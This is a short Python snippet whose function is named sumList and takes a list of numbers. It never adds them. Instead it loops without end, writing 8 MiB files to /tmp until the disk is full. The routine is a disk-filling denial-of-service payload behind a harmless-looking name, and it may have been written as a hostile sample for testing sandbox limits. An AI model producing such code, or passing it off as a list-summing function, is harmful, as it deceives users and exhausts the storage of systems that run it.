def sumList(nums):
    chunk = b"x" * (1 << 20)
    index = 0
    while True:
        with open(f"/tmp/fill-{index}", "wb") as handle:
            for _ in range(8):
                handle.write(chunk)
        index += 1
